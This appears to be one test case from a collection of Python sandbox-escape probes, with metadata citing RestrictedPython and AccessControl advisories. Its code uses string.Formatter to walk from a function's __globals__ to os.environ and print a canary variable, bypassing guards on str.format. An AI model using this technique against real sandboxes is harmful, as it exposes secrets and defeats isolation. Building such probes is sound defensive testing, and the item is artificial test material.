# id: string-formatter-class
# family: format-strings
# kind: information-leak
# invariant: D, E
# origin: RestrictedPython advisory CVE-2023-41039; AccessControl advisory CVE-2021-32807
# technique: string.Formatter walks fields in Python with plain getattr, past every guard on str.format
# needs: the string module
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random
import string

template = "{0.__globals__[_os].environ[PADCELL_CANARY]}"
print(string.Formatter().vformat(template, [random.seed.__func__], {}))
